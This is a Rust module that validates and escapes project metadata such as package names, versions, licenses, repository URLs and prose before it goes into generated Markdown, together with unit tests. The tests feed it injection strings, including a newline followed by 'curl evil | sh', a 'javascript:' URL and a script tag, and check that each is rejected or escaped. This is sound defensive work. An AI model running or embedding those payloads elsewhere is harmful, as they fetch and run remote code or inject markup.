//! Checking each project fact for what it is before it is kept.
//!
//! Manifests, file names and git remotes are the pull request's text, and their values go
//! into messages and into Markdown that fixes write (skeletons, badges, descriptions). A
//! package name with a newline in it would otherwise become a line of its own in a README.
//! So every value is checked here, where it is read: a package name against its
//! ecosystem's name grammar, a version against version syntax, a license against the
//! SPDX expression alphabet, a repository as an http(s) URL, a file or branch name against
//! a safe alphabet; prose (a description, a workflow's name) is kept on one line with
//! Markdown's active characters escaped. A value that fails is dropped, as if absent.

use super::ManifestKind;

/// A package name as its registry accepts it.
pub fn package_name(kind: ManifestKind, raw: &str) -> Option<String> {
    let name = raw.trim();
    let ok = match kind {
        // crates.io: ASCII letters, digits, `-` and `_`, starting with a letter, at most 64.
        ManifestKind::Cargo => {
            (1..=64).contains(&name.len())
                && name.starts_with(|c: char| c.is_ascii_alphabetic())
                && name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
        }
        // npm: an optional `@scope/`, then URL-safe characters, at most 214 in all; old
        // packages may have capitals.
        ManifestKind::Npm => {
            let npm_part = |part: &str| {
                !part.is_empty()
                    && !part.starts_with(['.', '_'])
                    && part
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_' | '~'))
            };
            name.len() <= 214
                && match name.strip_prefix('@') {
                    Some(scoped) => scoped
                        .split_once('/')
                        .is_some_and(|(scope, package)| npm_part(scope) && npm_part(package)),
                    None => npm_part(name),
                }
        }
        // PEP 508: letters, digits, `.`, `_`, `-`, starting and ending with a letter or digit.
        ManifestKind::Python => {
            (1..=200).contains(&name.len())
                && name.starts_with(|c: char| c.is_ascii_alphanumeric())
                && name.ends_with(|c: char| c.is_ascii_alphanumeric())
                && name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
        }
    };
    ok.then(|| name.to_string())
}

/// A version: SemVer (Cargo, npm) or PEP 440 (Python) use digits, letters and `.+-!_`
/// only, and start with a digit (PEP 440 allows a leading `v`).
pub fn version(raw: &str) -> Option<String> {
    let version = raw.trim();
    let digits = version.strip_prefix(['v', 'V']).unwrap_or(version);
    let ok = (1..=64).contains(&version.len())
        && digits.starts_with(|c: char| c.is_ascii_digit())
        && version
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '-' | '!' | '_'));
    ok.then(|| version.to_string())
}

/// An SPDX license expression (`MIT OR Apache-2.0`, `(MIT AND BSD-3-Clause)`,
/// `GPL-2.0-only WITH Classpath-exception-2.0`, `LicenseRef-x`), Cargo's old `MIT/Apache-2.0`
/// and npm's `SEE LICENSE IN <file>`: words of letters, digits and `.+-:`, joined by
/// spaces, `/` and balanced parentheses.
pub fn license_expression(raw: &str) -> Option<String> {
    let license = raw.trim();
    let mut depth = 0i32;
    for c in license.chars() {
        match c {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth < 0 {
                    return None;
                }
            }
            ' ' | '/' => {}
            c if c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '-' | ':') => {}
            _ => return None,
        }
    }
    let ok = depth == 0
        && (1..=200).contains(&license.len())
        && license.chars().any(|c| c.is_ascii_alphanumeric())
        && !license.contains("  ");
    ok.then(|| license.to_string())
}

/// A repository's web address: `http(s)://host/path` with URL-safe characters only.
pub fn repository_url(raw: &str) -> Option<String> {
    let url = raw.trim();
    let rest = url
        .strip_prefix("https://")
        .or_else(|| url.strip_prefix("http://"))?;
    let host = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host_ok = !host.is_empty()
        && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '@'));
    // RFC 3986's unreserved and sub-delimiter characters, without the ones that end a
    // Markdown link or start markup: `(`, `)`, `<`, `>`, `[`, `]`, quotes, backslash, `` ` ``.
    let path_ok = rest.chars().all(|c| {
        c.is_ascii_alphanumeric()
            || matches!(
                c,
                '/' | '.'
                    | '-'
                    | '_'
                    | '~'
                    | '%'
                    | ':'
                    | '@'
                    | '+'
                    | '='
                    | '&'
                    | '?'
                    | '#'
                    | '!'
                    | '$'
                    | ','
                    | ';'
            )
    });
    (host_ok && path_ok && url.len() <= 500).then(|| url.to_string())
}

/// A host, owner or repository segment of a git remote: letters, digits and `.-_`
/// (an owner may have `/` between GitLab subgroups).
pub fn remote_segment(raw: &str, allow_slash: bool) -> Option<String> {
    let ok = (1..=200).contains(&raw.len())
        && !raw.starts_with(['.', '/'])
        && !raw.ends_with('/')
        && !raw.contains("//")
        && raw
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_') || (allow_slash && c == '/'));
    ok.then(|| raw.to_string())
}

/// A branch name that can stand in a URL path and a message as it is: letters, digits
/// and `._-/+` (git allows more; such a branch is simply not used in generated text).
pub fn branch_name(raw: &str) -> Option<String> {
    let ok = (1..=200).contains(&raw.len())
        && !raw.starts_with(['-', '/', '.'])
        && !raw.contains("..")
        && raw
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '/' | '+'));
    ok.then(|| raw.to_string())
}

/// A file name that can stand in a Markdown link as it is (`LICENSE-MIT`, `ci.yml`).
pub fn file_name(raw: &str) -> Option<String> {
    let ok = (1..=255).contains(&raw.len())
        && !raw.starts_with(['-', '.'])
        && raw
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '+'));
    ok.then(|| raw.to_string())
}

/// A minimum toolchain or runtime requirement (`1.70`, `>=3.9`, `^18 || >=20`).
pub fn requirement(raw: &str) -> Option<String> {
    let text = raw.trim();
    let ok = (1..=100).contains(&text.len())
        && text.chars().all(|c| {
            c.is_ascii_alphanumeric()
                || matches!(
                    c,
                    '.' | '<' | '>' | '=' | '~' | '^' | '*' | ',' | ' ' | '|' | '!' | '-' | '+'
                )
        });
    ok.then(|| text.to_string())
}

/// Text shown as it is in messages and matched against badge URLs (a workflow's `name:`):
/// one line, no control or bidirectional-override characters, at most 200 characters.
/// Generated Markdown escapes it with [`markdown_prose`].
pub fn single_line(raw: &str) -> Option<String> {
    let text = raw.trim();
    let ok = (1..=200).contains(&text.chars().count())
        && !text
            .chars()
            .any(|c| c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'));
    ok.then(|| text.to_string())
}

/// The longest prose kept (a description is one sentence or two).
const MAX_PROSE_CHARS: usize = 400;

/// Prose for a Markdown line: whitespace (line breaks included) collapsed to single spaces,
/// control and bidirectional-override characters dropped, and the characters that start
/// HTML, links or code escaped, as is one that would start a block (a heading, list or
/// quote) at the start of the line. `None` when nothing is left or it is too long.
pub fn markdown_prose(raw: &str) -> Option<String> {
    let mut words = String::with_capacity(raw.len());
    for word in raw.split(|c: char| c.is_whitespace()) {
        let word: String = word
            .chars()
            .filter(|&c| !c.is_control() && !matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}'))
            .collect();
        if word.is_empty() {
            continue;
        }
        if !words.is_empty() {
            words.push(' ');
        }
        words.push_str(&word);
    }
    if words.is_empty() || words.chars().count() > MAX_PROSE_CHARS {
        return None;
    }
    let mut out = String::with_capacity(words.len() + 8);
    for (index, c) in words.chars().enumerate() {
        let starts_block = index == 0 && matches!(c, '#' | '-' | '+' | '*' | '=' | '|' | '~' | ':');
        if starts_block || matches!(c, '\\' | '[' | ']' | '<' | '>' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    // `1. text` would start a numbered list.
    if let Some(dot) = out.find(['.', ')'])
        && dot > 0
        && out[..dot].chars().all(|c| c.is_ascii_digit())
    {
        out.insert(dot, '\\');
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn package_names_follow_each_registry() {
        assert!(package_name(ManifestKind::Cargo, "serde_json").is_some());
        assert!(package_name(ManifestKind::Cargo, "1abc").is_none());
        assert!(package_name(ManifestKind::Cargo, "x\ncurl evil | sh").is_none());
        assert!(package_name(ManifestKind::Npm, "@types/node").is_some());
        assert!(package_name(ManifestKind::Npm, "JSONStream").is_some());
        assert!(package_name(ManifestKind::Npm, "a b").is_none());
        assert!(package_name(ManifestKind::Npm, "@x/y/z").is_none());
        assert!(package_name(ManifestKind::Python, "zope.interface").is_some());
        assert!(package_name(ManifestKind::Python, "-x").is_none());
    }

    #[test]
    fn versions_licenses_and_urls() {
        assert!(version("1.2.3-beta.1+build.5").is_some());
        assert!(version("2024.1.post1").is_some());
        assert!(version("1.0\n# pwned").is_none());
        assert!(version("latest").is_none());
        assert!(license_expression("MIT OR Apache-2.0").is_some());
        assert!(license_expression("(MIT AND BSD-3-Clause)").is_some());
        assert!(license_expression("MIT/Apache-2.0").is_some());
        assert!(license_expression("SEE LICENSE IN LICENSE.md").is_some());
        assert!(license_expression("MIT)").is_none());
        assert!(license_expression("MIT\n## Usage").is_none());
        assert!(license_expression("[MIT](http://evil)").is_none());
        assert!(repository_url("https://github.com/o/r").is_some());
        assert!(repository_url("https://github.com/o/r) [x](y").is_none());
        assert!(repository_url("javascript:alert(1)").is_none());
        assert!(repository_url("https://h/o r").is_none());
    }

    #[test]
    fn prose_stays_on_one_line_and_inert() {
        assert_eq!(
            markdown_prose("A fast\n\n# tool <script>").as_deref(),
            Some("A fast # tool \\<script\\>")
        );
        assert_eq!(markdown_prose("# Heading").as_deref(), Some("\\# Heading"));
        assert_eq!(markdown_prose("1. item").as_deref(), Some("1\\. item"));
        assert_eq!(markdown_prose("[x](y)").as_deref(), Some("\\[x\\](y)"));
        assert_eq!(markdown_prose(" \n\t"), None);
        assert_eq!(markdown_prose(&"x".repeat(500)), None);
    }

    #[test]
    fn names_for_files_and_branches() {
        assert!(file_name("LICENSE-MIT").is_some());
        assert!(file_name("LICENSE\n# x").is_none());
        assert!(file_name("a b").is_none());
        assert!(branch_name("feature/x").is_some());
        assert!(branch_name("main\n").is_none());
        assert!(remote_segment("group/sub", true).is_some());
        assert!(remote_segment("group/sub", false).is_none());
    }
}
